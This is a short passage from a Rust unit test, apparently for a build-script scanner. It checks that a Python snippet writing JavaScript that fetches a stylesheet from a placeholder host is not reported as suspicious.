    let build = "bundle = \"const https = require('https'); https.get('https://cdn.example.invalid/app.css');\"\nwith open('dist/app.js', 'w') as f:\n    f.write(bundle)\n";
    let d = details(build);
    assert!(
        !d.iter().any(|x| x.contains("in the JavaScript written to")),
        "{d:?}"
    );
}
